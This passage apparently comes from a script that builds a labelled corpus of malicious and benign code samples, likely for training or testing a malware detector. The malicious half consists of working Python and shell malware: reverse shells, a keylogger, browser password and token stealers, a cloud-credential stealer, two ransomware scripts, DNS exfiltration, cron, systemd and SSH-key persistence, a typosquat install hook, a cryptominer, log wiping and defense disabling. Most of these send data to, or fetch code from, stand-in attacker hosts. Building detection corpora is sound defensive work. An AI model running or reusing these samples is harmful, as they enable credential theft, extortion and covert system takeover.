        data = sock.recv(4096).decode(errors="ignore").strip()
        if not data or data == "exit":
            break
        if data.startswith("cd "):
            try:
                os.chdir(data[3:])
                out = b""
            except OSError as e:
                out = str(e).encode() + b"\n"
        else:
            proc = subprocess.run(data, shell=True, capture_output=True)
            out = proc.stdout + proc.stderr
        sock.send(out + os.getcwd().encode() + b"> ")


while True:
    try:
        s = socket.create_connection(C2, timeout=30)
        session(s)
        s.close()
    except OSError:
        pass
    # back off so the beacon does not hammer the server
    time.sleep(60)
''')

add("py-pynput-keylogger", PY, M, r'''
from pynput import keyboard
import threading
import requests
import getpass
import platform

buffer = []
URL = "https://telemetry.example.net/api/collect"


def on_press(key):
    try:
        buffer.append(key.char)
    except AttributeError:
        buffer.append(f"[{key.name}]")


def flush():
    if buffer:
        payload = {"u": getpass.getuser(), "h": platform.node(), "k": "".join(buffer)}
        try:
            requests.post(URL, json=payload, timeout=10)
            buffer.clear()
        except requests.RequestException:
            pass
    threading.Timer(120, flush).start()


flush()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
''')

add("py-chrome-logins", PY, M, r'''
import os, json, base64, shutil, sqlite3, tempfile
import win32crypt
import requests
from Crypto.Cipher import AES

base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
with open(os.path.join(base, "Local State"), encoding="utf-8") as f:
    enc_key = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
key = win32crypt.CryptUnprotectData(enc_key, None, None, None, 0)[1]

tmp = os.path.join(tempfile.gettempdir(), "ld.db")
shutil.copy2(os.path.join(base, "Default", "Login Data"), tmp)
rows = sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()

found = []
for url, user, blob in rows:
    iv, payload = blob[3:15], blob[15:]
    cipher = AES.new(key, AES.MODE_GCM, iv)
    pw = cipher.decrypt(payload)[:-16].decode(errors="ignore")
    if user or pw:
        found.append({"url": url, "user": user, "pw": pw})

requests.post("http://203.0.113.66/panel/upload", json={"host": os.environ.get("COMPUTERNAME"), "items": found}, timeout=15)
os.remove(tmp)
''')

add("py-fernet-ransom", PY, M, r'''
#!/usr/bin/env python3
import os
from pathlib import Path
from cryptography.fernet import Fernet
import urllib.request

TARGETS = [Path.home() / "Documents", Path.home() / "Pictures", Path("/mnt/share")]
EXTS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".zip"}
NOTE = "All your files are encrypted. Mail decrypt@example.org with your ID: {id}\n"

key = Fernet.generate_key()
f = Fernet(key)
victim_id = os.urandom(8).hex()

# hand the key to the operator before touching anything
urllib.request.urlopen("http://192.0.2.140/register", data=f"id={victim_id}&k={key.decode()}".encode(), timeout=20)

for root in TARGETS:
    for path in root.rglob("*"):
        if path.is_file() and path.suffix.lower() in EXTS:
            try:
                data = path.read_bytes()
                path.with_name(path.name + ".crypt").write_bytes(f.encrypt(data))
                path.unlink()
            except OSError:
                continue
    (root / "HOW_TO_DECRYPT.txt").write_text(NOTE.format(id=victim_id))
''')

add("py-dns-exfil", PY, M, r'''
import socket, binascii, time

DOMAIN = "cdn-stats.example.net"

def leak(path, tag):
    raw = open(path, "rb").read()
    hexed = binascii.hexlify(raw).decode()
    for seq, i in enumerate(range(0, len(hexed), 56)):
        label = hexed[i:i + 56]
        try:
            socket.gethostbyname(f"{label}.{seq}.{tag}.{DOMAIN}")
        except socket.gaierror:
            pass
        time.sleep(0.2)

leak("/etc/passwd", "p")
leak("/etc/shadow", "s")
''')

add("py-cron-systemd-persist", PY, M, r'''
import os
import shutil
import subprocess
import sys

home = os.path.expanduser("~")
dest = os.path.join(home, ".cache", ".dbus-sync")
os.makedirs(os.path.dirname(dest), exist_ok=True)
shutil.copy(sys.argv[0], dest)
os.chmod(dest, 0o755)

current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
entry = f"@reboot /usr/bin/python3 {dest} >/dev/null 2>&1\n"
if entry not in current:
    subprocess.run(["crontab", "-"], input=current + entry, text=True)

unit_dir = os.path.join(home, ".config", "systemd", "user")
os.makedirs(unit_dir, exist_ok=True)
with open(os.path.join(unit_dir, "dbus-sync.service"), "w") as fh:
    fh.write(f"[Unit]\nDescription=D-Bus Session Sync\n\n[Service]\nExecStart=/usr/bin/python3 {dest}\nRestart=always\n\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-sync.service"], stderr=subprocess.DEVNULL)
''')

add("py-urllib-dropper", PY, M, r'''
import os, stat, subprocess, tempfile, urllib.request

u = "http://mirror.example.net/update/linux-amd64"
p = os.path.join(tempfile.gettempdir(), ".X11-cache")
urllib.request.urlretrieve(u, p)
os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)
subprocess.Popen([p, "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
''')

add("py-cloud-cred-grab", PY, M, r'''
import glob, io, os, tarfile, requests

home = os.path.expanduser("~")
patterns = [".ssh/id_*", ".aws/credentials", ".aws/config", ".kube/config", ".docker/config.json",
            ".git-credentials", ".netrc", ".config/gcloud/*.json"]

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for pat in patterns:
        for path in glob.glob(os.path.join(home, pat)):
            tar.add(path, arcname=os.path.relpath(path, home))

env = {k: v for k, v in os.environ.items() if any(s in k for s in ("TOKEN", "SECRET", "KEY", "PASS"))}
requests.post("https://203.0.113.45/c", files={"f": ("b.tgz", buf.getvalue())}, data=env, timeout=30, verify=False)
''', group="ci-secrets-stealer")

add("py-screen-grabber", PY, M, r'''
import io, time, datetime, requests
from PIL import ImageGrab

while True:
    shot = ImageGrab.grab(all_screens=True)
    buf = io.BytesIO()
    shot.save(buf, format="JPEG", quality=40)
    name = datetime.datetime.now().strftime("%Y%m%d-%H%M%S.jpg")
    try:
        requests.put(f"http://192.0.2.201/s/{name}", data=buf.getvalue(), timeout=20)
    except Exception:
        pass
    time.sleep(45)
''')

add("py-clipboard-clipper", PY, M, r'''
import re
import time
import pyperclip

# swap any wallet address the victim copies for ours
ADDRS = {
    "btc": (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "bc1qexampleexampleexampleexampleexample0"),
    "eth": (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x000000000000000000000000000000000000dEaD"),
}

last = ""
while True:
    text = pyperclip.paste().strip()
    if text != last:
        for pattern, ours in ADDRS.values():
            if pattern.match(text) and text != ours:
                pyperclip.copy(ours)
                text = ours
                break
        last = text
    time.sleep(0.5)
''')

add("py-token-grabber", PY, M, r'''
import os
import re
import json
import urllib.request

WEBHOOK = "https://hooks.example.com/api/webhooks/1187/UuVTAIjvFu7WICPhDeOZIiBOB_Y6sHrFH2ZUCr_l"
roaming = os.getenv("APPDATA")
paths = {
    "Discord": os.path.join(roaming, "discord", "Local Storage", "leveldb"),
    "Discord PTB": os.path.join(roaming, "discordptb", "Local Storage", "leveldb"),
    "Chrome": os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Local Storage", "leveldb"),
}
token_re = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")

tokens = set()
for name, path in paths.items():
    if not os.path.isdir(path):
        continue
    for fn in os.listdir(path):
        if fn.endswith((".log", ".ldb")):
            with open(os.path.join(path, fn), errors="ignore") as fh:
                tokens.update(token_re.findall(fh.read()))

body = json.dumps({"content": "\n".join(tokens) or "none", "username": os.getenv("USERNAME")}).encode()
req = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
urllib.request.urlopen(req)
''')

add("py-typosquat-setup", PY, M, r'''
from setuptools import setup
from setuptools.command.install import install
import os
import platform
import urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            arch = platform.machine()
            url = f"http://pypi-mirror.example.org/simple/{arch}/helper"
            path = os.path.join(os.path.expanduser("~"), ".local", "bin", ".helper")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            urllib.request.urlretrieve(url, path)
            os.chmod(path, 0o755)
            os.system(f"nohup {path} >/dev/null 2>&1 &")
        except Exception:
            pass


setup(
    name="requets-toolbelt",
    version="0.10.2",
    packages=["requets_toolbelt"],
    install_requires=["requests>=2.20"],
    cmdclass={"install": PostInstall},
)
''')

# ---------------------------------------------------------------- Python, benign
add("py-sales-by-region", PY, B, r'''
#!/usr/bin/env python3
"""Summarise monthly sales by region from a CSV export."""
import csv
import sys
from collections import defaultdict
from decimal import Decimal


def summarise(path):
    totals = defaultdict(Decimal)
    counts = defaultdict(int)
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            region = row["region"].strip() or "unknown"
            totals[region] += Decimal(row["amount"])
            counts[region] += 1
    return totals, counts


def main():
    totals, counts = summarise(sys.argv[1])
    writer = csv.writer(sys.stdout)
    writer.writerow(["region", "orders", "total"])
    for region in sorted(totals, key=totals.get, reverse=True):
        writer.writerow([region, counts[region], f"{totals[region]:.2f}"])


if __name__ == "__main__":
    main()
''')

add("py-log-gzip", PY, B, r'''
import gzip
import shutil
import time
from pathlib import Path

LOG_DIR = Path("/var/log/myapp")
COMPRESS_AFTER = 2 * 86400
DELETE_AFTER = 30 * 86400
now = time.time()

for path in LOG_DIR.glob("*.log.*"):
    age = now - path.stat().st_mtime
    if path.suffix == ".gz":
        if age > DELETE_AFTER:
            path.unlink()
        continue
    if age > COMPRESS_AFTER:
        with path.open("rb") as src, gzip.open(f"{path}.gz", "wb") as dst:
            shutil.copyfileobj(src, dst)
        path.unlink()
''')

add("py-tar-backup", PY, B, r'''
#!/usr/bin/env python3
"""Nightly tarball of /etc and the app data, keeping the last 14."""
import datetime
import tarfile
from pathlib import Path

SOURCES = ["/etc", "/srv/app/config", "/srv/app/uploads"]
DEST = Path("/backup/daily")
KEEP = 14


def make_backup() -> Path:
    DEST.mkdir(parents=True, exist_ok=True)
    stamp = datetime.datetime.now().strftime("%Y%m%d-%H%M")
    target = DEST / f"host-{stamp}.tar.gz"
    with tarfile.open(target, "w:gz") as tar:
        for src in SOURCES:
            tar.add(src, arcname=src.lstrip("/"))
    return target


def prune() -> None:
    archives = sorted(DEST.glob("host-*.tar.gz"))
    for old in archives[:-KEEP]:
        old.unlink()


if __name__ == "__main__":
    print("wrote", make_backup())
    prune()
''')

add("py-flask-todos", PY, B, r'''
from flask import Flask, jsonify, request, abort

app = Flask(__name__)
TODOS = {}


@app.get("/todos")
def list_todos():
    return jsonify(list(TODOS.values()))


@app.post("/todos")
def create_todo():
    body = request.get_json(silent=True) or {}
    title = body.get("title", "").strip()
    if not title:
        abort(400, "title is required")
    todo_id = len(TODOS) + 1
    TODOS[todo_id] = {"id": todo_id, "title": title, "done": False}
    return jsonify(TODOS[todo_id]), 201


@app.patch("/todos/<int:todo_id>")
def toggle(todo_id):
    if todo_id not in TODOS:
        abort(404)
    TODOS[todo_id]["done"] = not TODOS[todo_id]["done"]
    return jsonify(TODOS[todo_id])


if __name__ == "__main__":
    app.run(debug=True, port=5000)
''')

add("py-cli-install-verify", PY, B, r'''
import hashlib
import subprocess
import sys
import tempfile
import urllib.request
from pathlib import Path

VERSION = "1.8.3"
URL = f"https://releases.example.com/cli/{VERSION}/tool-linux-amd64.tar.gz"
SHA256 = "08e3603567ac0b7faa1c20ff6be0920865c5b2fdec284fabc7c4da10b4236bb8"

with tempfile.TemporaryDirectory() as tmp:
    archive = Path(tmp) / "tool.tar.gz"
    urllib.request.urlretrieve(URL, archive)
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    if digest != SHA256:
        sys.exit(f"checksum mismatch: {digest}")
    subprocess.run(["tar", "-xzf", str(archive), "-C", tmp], check=True)
    subprocess.run(["sudo", "install", "-m", "0755", str(Path(tmp) / "tool"), "/usr/local/bin/tool"], check=True)
print(f"installed tool {VERSION}")
''')

add("py-conftest-db", PY, B, r'''
import json
import pytest

from inventory.db import Database


@pytest.fixture
def db(tmp_path):
    database = Database(tmp_path / "test.sqlite")
    database.migrate()
    yield database
    database.close()


@pytest.fixture
def sample_items():
    with open("tests/data/items.json", encoding="utf-8") as fh:
        return json.load(fh)


@pytest.fixture
def loaded_db(db, sample_items):
    for item in sample_items:
        db.insert_item(item)
    return db
''')

add("py-git-version", PY, B, r'''
import subprocess


def git(*args):
    return subprocess.check_output(["git", *args], text=True).strip()


def version():
    try:
        tag = git("describe", "--tags", "--abbrev=0")
    except subprocess.CalledProcessError:
        tag = "0.0.0"
    commits = git("rev-list", f"{tag}..HEAD", "--count") if tag != "0.0.0" else git("rev-list", "HEAD", "--count")
    sha = git("rev-parse", "--short", "HEAD")
    dirty = "-dirty" if git("status", "--porcelain") else ""
    return f"{tag}+{commits}.{sha}{dirty}"


if __name__ == "__main__":
    with open("src/app/_version.py", "w") as fh:
        fh.write(f'__version__ = "{version()}"\n')
''')

add("py-port-check", PY, B, r'''
import socket
import sys

SERVICES = [
    ("db01.internal.example.com", 5432),
    ("cache01.internal.example.com", 6379),
    ("api.example.com", 443),
    ("192.0.2.25", 22),
]

failed = 0
for host, port in SERVICES:
    try:
        with socket.create_connection((host, port), timeout=3):
            print(f"OK    {host}:{port}")
    except OSError as exc:
        failed += 1
        print(f"FAIL  {host}:{port}  ({exc})")
sys.exit(1 if failed else 0)
''')

add("py-k8s-secret", PY, B, r'''
import base64
import sys
import yaml

def secret_manifest(name, namespace, env_file):
    data = {}
    with open(env_file) as fh:
        for line in fh:
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            key, _, value = line.partition("=")
            data[key] = base64.b64encode(value.encode()).decode()
    return {"apiVersion": "v1", "kind": "Secret", "type": "Opaque",
            "metadata": {"name": name, "namespace": namespace}, "data": data}

if __name__ == "__main__":
    yaml.safe_dump(secret_manifest(sys.argv[1], sys.argv[2], sys.argv[3]), sys.stdout, sort_keys=False)
''')

add("py-cmdb-report", PY, B, r'''
import json
import platform
import socket
import urllib.request

import psutil

INVENTORY_API = "https://cmdb.example.com/api/hosts"

record = {
    "hostname": socket.gethostname(),
    "os": f"{platform.system()} {platform.release()}",
    "python": platform.python_version(),
    "cpus": psutil.cpu_count(logical=True),
    "memory_gb": round(psutil.virtual_memory().total / 2**30, 1),
    "disks": [{"mount": p.mountpoint, "fs": p.fstype} for p in psutil.disk_partitions()],
    "boot_time": psutil.boot_time(),
    "users": [u.name for u in psutil.users()],
}

req = urllib.request.Request(
    INVENTORY_API,
    data=json.dumps(record).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
with urllib.request.urlopen(req, timeout=10) as resp:
    print(resp.status, record["hostname"])
''')

add("py-photo-rename", PY, B, r'''
import argparse
import re
from pathlib import Path

parser = argparse.ArgumentParser(description="Rename camera files to their date stamp")
parser.add_argument("folder", type=Path)
parser.add_argument("--dry-run", action="store_true")
args = parser.parse_args()

pattern = re.compile(r"IMG_(\d{4})(\d{2})(\d{2})_(\d{6})")
for path in sorted(args.folder.glob("IMG_*.jpg")):
    m = pattern.match(path.stem)
    if not m:
        continue
    y, mo, d, t = m.groups()
    new = path.with_name(f"{y}-{mo}-{d}_{t}{path.suffix.lower()}")
    if new.exists():
        print(f"skip {path.name}: {new.name} exists")
        continue
    print(f"{path.name} -> {new.name}")
    if not args.dry_run:
        path.rename(new)
''')

add("py-json-to-csv", PY, B, r'''
import csv, json, sys

records = json.load(sys.stdin)
fields = sorted({k for r in records for k in r})
w = csv.DictWriter(sys.stdout, fieldnames=fields, extrasaction="ignore")
w.writeheader()
for r in records:
    w.writerow({k: json.dumps(v) if isinstance(v, (dict, list)) else v for k, v in r.items()})
''')

add("py-sqlite-migrate", PY, B, r'''
import sqlite3
from pathlib import Path

MIGRATIONS = Path(__file__).with_name("migrations")


def migrate(db_path):
    con = sqlite3.connect(db_path)
    con.execute("CREATE TABLE IF NOT EXISTS schema_version (version INTEGER PRIMARY KEY, applied_at TEXT DEFAULT CURRENT_TIMESTAMP)")
    done = {v for (v,) in con.execute("SELECT version FROM schema_version")}
    for script in sorted(MIGRATIONS.glob("*.sql")):
        version = int(script.stem.split("_")[0])
        if version in done:
            continue
        with con:
            con.executescript(script.read_text())
            con.execute("INSERT INTO schema_version (version) VALUES (?)", (version,))
        print(f"applied {script.name}")
    con.close()


if __name__ == "__main__":
    migrate("app.db")
''')

add("py-paginated-client", PY, B, r'''
import time
import requests

API = "https://api.example.com/v1"
session = requests.Session()
session.headers["Authorization"] = "Bearer " + open("/etc/myapp/token").read().strip()


def get_all(path, params=None):
    url, params = f"{API}{path}", dict(params or {}, per_page=100)
    while url:
        for attempt in range(5):
            resp = session.get(url, params=params, timeout=30)
            if resp.status_code == 429:
                time.sleep(int(resp.headers.get("Retry-After", 2 ** attempt)))
                continue
            resp.raise_for_status()
            break
        yield from resp.json()["items"]
        url, params = resp.links.get("next", {}).get("url"), None


for project in get_all("/projects", {"archived": "false"}):
    print(project["id"], project["name"])
''')

add("py-disk-alert", PY, B, r'''
import shutil
import smtplib
import socket
from email.message import EmailMessage

THRESHOLD = 0.90
MOUNTS = ["/", "/var", "/srv"]

alerts = []
for mount in MOUNTS:
    usage = shutil.disk_usage(mount)
    ratio = usage.used / usage.total
    if ratio >= THRESHOLD:
        alerts.append(f"{mount}: {ratio:.0%} used ({usage.free // 2**30} GiB free)")

if alerts:
    msg = EmailMessage()
    msg["Subject"] = f"Disk space warning on {socket.gethostname()}"
    msg["From"] = "monitor@example.com"
    msg["To"] = "ops@example.com"
    msg.set_content("\n".join(alerts))
    with smtplib.SMTP("smtp.example.com", 587) as smtp:
        smtp.starttls()
        smtp.send_message(msg)
''')

add("py-report-crontab", PY, B, r'''
"""Install the nightly report job for the service account (idempotent)."""
import subprocess

JOB = "15 2 * * * /opt/reports/venv/bin/python /opt/reports/nightly.py >> /var/log/reports/nightly.log 2>&1"
MARKER = "# managed-by: reports-installer"

current = subprocess.run(["crontab", "-l"], capture_output=True, text=True)
lines = current.stdout.splitlines() if current.returncode == 0 else []
lines = [l for l in lines if MARKER not in l]
lines.append(f"{JOB} {MARKER}")
subprocess.run(["crontab", "-"], input="\n".join(lines) + "\n", text=True, check=True)
print("crontab updated")
''')

add("py-find-duplicates", PY, B, r'''
import hashlib
import os
import sys
from collections import defaultdict


def sha1(path, chunk=1 << 20):
    h = hashlib.sha1()
    with open(path, "rb") as fh:
        while block := fh.read(chunk):
            h.update(block)
    return h.hexdigest()


by_size = defaultdict(list)
for root, _, files in os.walk(sys.argv[1]):
    for name in files:
        p = os.path.join(root, name)
        if not os.path.islink(p):
            by_size[os.path.getsize(p)].append(p)

for size, paths in by_size.items():
    if len(paths) < 2:
        continue
    by_hash = defaultdict(list)
    for p in paths:
        by_hash[sha1(p)].append(p)
    for group in by_hash.values():
        if len(group) > 1:
            print(size, *group, sep="\n  ")
''')

add("py-invoice-unittest", PY, B, r'''
import unittest
from decimal import Decimal

from billing.invoice import Invoice, LineItem


class InvoiceTest(unittest.TestCase):
    def setUp(self):
        self.invoice = Invoice(customer="ACME", currency="EUR")

    def test_empty_invoice_totals_zero(self):
        self.assertEqual(self.invoice.total(), Decimal("0"))

    def test_vat_applied_per_line(self):
        self.invoice.add(LineItem("widget", Decimal("10.00"), qty=3, vat=Decimal("0.21")))
        self.assertEqual(self.invoice.total(), Decimal("36.30"))

    def test_negative_quantity_rejected(self):
        with self.assertRaises(ValueError):
            self.invoice.add(LineItem("widget", Decimal("1"), qty=-1))


if __name__ == "__main__":
    unittest.main()
''')

add("py-encrypt-dump", PY, B, r'''
#!/usr/bin/env python3
# Encrypt the nightly DB dump before it is shipped off-site.
import os
import sys
from pathlib import Path
from cryptography.fernet import Fernet

key = os.environ.get("BACKUP_KEY")
if not key:
    sys.exit("BACKUP_KEY is not set (see the vault entry ops/backup-key)")
fernet = Fernet(key.encode())

dump = Path(sys.argv[1])
out = dump.with_suffix(dump.suffix + ".enc")
out.write_bytes(fernet.encrypt(dump.read_bytes()))
os.chmod(out, 0o600)
dump.unlink()
print(f"encrypted {dump.name} -> {out.name} ({out.stat().st_size} bytes)")
''')

add("py-setup-csvtools", PY, B, r'''
from setuptools import setup, find_packages

setup(
    name="csvtools",
    version="0.4.1",
    description="Small helpers for cleaning CSV exports",
    packages=find_packages(where="src"),
    package_dir={"": "src"},
    python_requires=">=3.9",
    install_requires=["click>=8.0", "chardet>=5.0"],
    extras_require={"dev": ["pytest", "ruff"]},
    entry_points={"console_scripts": ["csvclean=csvtools.cli:main"]},
)
''')

add("py-settings-loader", PY, B, r'''
import tomllib
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Settings:
    database_url: str
    workers: int = 4
    debug: bool = False


def load(path="config.toml"):
    raw = tomllib.loads(Path(path).read_text(encoding="utf-8"))
    unknown = set(raw) - set(Settings.__dataclass_fields__)
    if unknown:
        raise ValueError(f"{path}: unknown keys {sorted(unknown)}")
    return Settings(**raw)
''')

add("py-json-pretty-oneliner", PY, B, r'''
python3 -c "import json,sys; print(json.dumps(json.load(sys.stdin), indent=2, sort_keys=True))" < response.json
''')

add("py-http-server-oneliner", PY, B, r'''
python3 -m http.server 8000 --bind 127.0.0.1 --directory ./build
''')

add("py-paramiko-deploy", PY, B, r'''
import paramiko

HOSTS = ["web01.example.com", "203.0.113.52"]
COMMANDS = ["sudo systemctl stop shop", "cd /srv/shop && git pull --ff-only", "sudo systemctl start shop"]

key = paramiko.Ed25519Key.from_private_key_file("/home/deploy/.ssh/id_ed25519")
for host in HOSTS:
    client = paramiko.SSHClient()
    client.load_system_host_keys()
    client.connect(host, username="deploy", pkey=key)
    for cmd in COMMANDS:
        _, stdout, stderr = client.exec_command(cmd)
        status = stdout.channel.recv_exit_status()
        print(f"[{host}] {cmd} -> {status}")
        if status:
            print(stderr.read().decode())
            break
    client.close()
''')

# ---------------------------------------------------------------- bash, malicious
add("sh-devtcp-oneliner", SH, M, r'''
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
''', group="op-4444")

add("sh-wget-pipe-oneliner", SH, M, r'''
wget -qO- http://198.51.100.9/a | sh
''')

add("sh-fifo-nc-oneliner", SH, M, r'''
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 9001 > /tmp/f
''')

add("sh-cron-oneliner", SH, M, r'''
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.23/s.sh | sh") | crontab -
''')

add("sh-curl-miner", SH, M, r'''
#!/bin/sh
# clean up anyone else mining on this box first
pkill -f xmrig 2>/dev/null
pkill -f kdevtmpfsi 2>/dev/null
ps aux | grep -v grep | grep -E 'minerd|cryptonight|stratum' | awk '{print $2}' | xargs -r kill -9

WORKDIR=/var/tmp/.font-unix
mkdir -p "$WORKDIR" && cd "$WORKDIR" || cd /tmp
curl -fsSL http://198.51.100.30/x/config.json -o config.json
curl -fsSL http://198.51.100.30/x/kworkerd -o kworkerd || wget -q http://198.51.100.30/x/kworkerd -O kworkerd
chmod +x kworkerd
sed -i "s/\"user\": *\"[^\"]*\"/\"user\": \"4h82pJGF9p7kpzb6eU326EFZf2cDnimbTFVeJtx1qtBmUNJAEqN76R7PwPfHt3oWb8R6cKvhgyxQdDn53jFrK6wFx7RJWhv.$(hostname)\"/" config.json
nohup ./kworkerd --config=config.json --url=pool.example.net:3333 --cpu-max-threads-hint=75 >/dev/null 2>&1 &

# come back every 10 minutes if we get killed
(crontab -l 2>/dev/null | grep -v 198.51.100.30; echo "*/10 * * * * curl -fsSL http://198.51.100.30/x/i.sh | sh") | crontab -
history -c
''')

add("sh-ssh-key-backdoor", SH, M, r'''
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIjmW3lDoAYZbNphlTr9SAKX6CTm5nXodeygr+CNAQfM backup@localhost" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
sed -i 's/^#\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
systemctl restart sshd || service ssh restart
curl -s "http://192.0.2.150/reg?h=$(hostname)&ip=$(curl -s ifconfig.example.com)" >/dev/null
''')

add("sh-wipe-traces", SH, M, r'''
unset HISTFILE HISTSIZE HISTFILESIZE
export HISTFILE=/dev/null
for f in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log /var/log/secure; do
  [ -f "$f" ] && cat /dev/null > "$f"
done
journalctl --rotate && journalctl --vacuum-time=1s
find /var/log -name "*.gz" -delete
touch -r /bin/ls /usr/local/bin/.sysd
rm -f ~/.bash_history /root/.bash_history
''')

add("sh-secrets-harvest", SH, M, r'''
#!/bin/bash
OUT=/dev/shm/.c$$
mkdir -p $OUT
cp /etc/passwd /etc/shadow $OUT/ 2>/dev/null
find / -xdev \( -name "id_rsa" -o -name "id_ed25519" -o -name "*.pem" -o -name ".env" -o -name "wp-config.php" \) -size -100k 2>/dev/null | head -200 | while read f; do
  cp --parents "$f" $OUT/ 2>/dev/null
done
grep -rhoE "AKIA[0-9A-Z]{16}" /home /root /var/www 2>/dev/null | sort -u > $OUT/aws.txt
env | grep -iE "pass|secret|token|key" > $OUT/env.txt
tar czf $OUT.tgz -C $OUT .
curl -s -F "f=@$OUT.tgz" -F "h=$(hostname)" http://203.0.113.88/up.php
rm -rf $OUT $OUT.tgz
''')

add("sh-dig-exfil", SH, M, r'''
f=${1:-/etc/hosts}
id=$RANDOM
i=0
xxd -p "$f" | tr -d '\n' | fold -w 60 | while read -r chunk; do
  dig +short "$chunk.$i.$id.d.example.net" A >/dev/null 2>&1
  i=$((i+1))
  sleep 0.3
done
''')

add("sh-openssl-ransom", SH, M, r'''
#!/bin/bash
KEY=$(openssl rand -hex 32)
ID=$(cut -c1-12 /etc/machine-id)
curl -s -d "id=$ID&k=$KEY" http://192.0.2.140/k >/dev/null

for dir in /home /srv /var/www /var/lib/mysql; do
  find "$dir" -type f \( -name "*.sql" -o -name "*.tar.gz" -o -name "*.doc*" -o -name "*.xls*" -o -name "*.jpg" -o -name "*.pdf" \) 2>/dev/null |
  while read -r f; do
    openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.enc" -pass pass:"$KEY" && shred -u "$f"
  done
  echo "Files in $dir were encrypted. ID: $ID. Contact restore@example.org" > "$dir/RESTORE_FILES.txt"
done
unset KEY
''')

add("sh-ld-preload-hide", SH, M, r'''
cd /tmp
curl -fsSLo /usr/local/lib/libsystemd-helper.so https://pkg.example.org/l/libhide.so
chmod 755 /usr/local/lib/libsystemd-helper.so
echo /usr/local/lib/libsystemd-helper.so > /etc/ld.so.preload
touch -r /usr/lib/x86_64-linux-gnu/libc.so.6 /usr/local/lib/libsystemd-helper.so /etc/ld.so.preload
''')

add("sh-uid0-user", SH, M, r'''
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadmin2 2>/dev/null
echo 'sysadmin2:Sup3rS3cret!' | chpasswd
echo "www-data ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers
sed -i '/^sysadmin2:/d' /etc/group
''')

add("sh-systemd-revshell", SH, M, r'''
cat > /etc/systemd/system/networkd-dispatcherd.service <<'EOF'
[Unit]
Description=Network Dispatcher Helper
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/bash -c 'while true; do bash -i >& /dev/tcp/198.51.100.77/8080 0>&1; sleep 300; done'
Restart=always
RestartSec=60

[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now networkd-dispatcherd.service
''')

add("sh-iot-bins", SH, M, r'''
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
for arch in x86 x86_64 arm arm7 mips mpsl; do
  wget http://192.0.2.44/bins/$arch -O .d 2>/dev/null || curl -so .d http://192.0.2.44/bins/$arch
  chmod 777 .d
  ./.d scan.$arch && break
done
rm -f .d
''')

add("sh-kill-defenses", SH, M, r'''
# make room to work
setenforce 0 2>/dev/null
sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config 2>/dev/null
systemctl stop firewalld apparmor auditd 2>/dev/null
systemctl disable firewalld apparmor 2>/dev/null
ufw disable 2>/dev/null
iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -F
pkill -9 -f "aliyun|AliYunDun|qcloud|bcm-agent|falcon-sensor" 2>/dev/null
rm -rf /usr/local/aegis /usr/local/qcloud 2>/dev/null
echo 0 > /proc/sys/kernel/nmi_watchdog
''')

# ---------------------------------------------------------------- bash, benign
add("sh-rsync-backup", SH, B, r'''
#!/usr/bin/env bash
set -euo pipefail

SRC="/srv/www/"
DEST="backup@nas01.example.com:/volume1/backups/www"
LOG="/var/log/backup-www.log"
EXCLUDES="/etc/backup/www.exclude"

echo "[$(date -Is)] starting backup of $SRC" >> "$LOG"
if rsync -az --delete --partial --exclude-from="$EXCLUDES" -e "ssh -i /root/.ssh/backup_ed25519" "$SRC" "$DEST" >> "$LOG" 2>&1; then
    echo "[$(date -Is)] backup finished" >> "$LOG"
else
    rc=$?
    echo "[$(date -Is)] backup FAILED with $rc" >> "$LOG"
    echo "rsync exit $rc on $(hostname)" | mail -s "backup failed" ops@example.com
    exit "$rc"
fi
''')

add("sh-nginx-logs", SH, B, r'''
find /var/log/nginx -name '*.log.[0-9]*' ! -name '*.gz' -mtime +1 -exec gzip -9 {} \;
find /var/log/nginx -name '*.gz' -mtime +60 -delete
systemctl kill -s USR1 nginx
''')

add("sh-kubetool-install", SH, B, r'''
#!/bin/sh
set -eu
VERSION=2.11.0
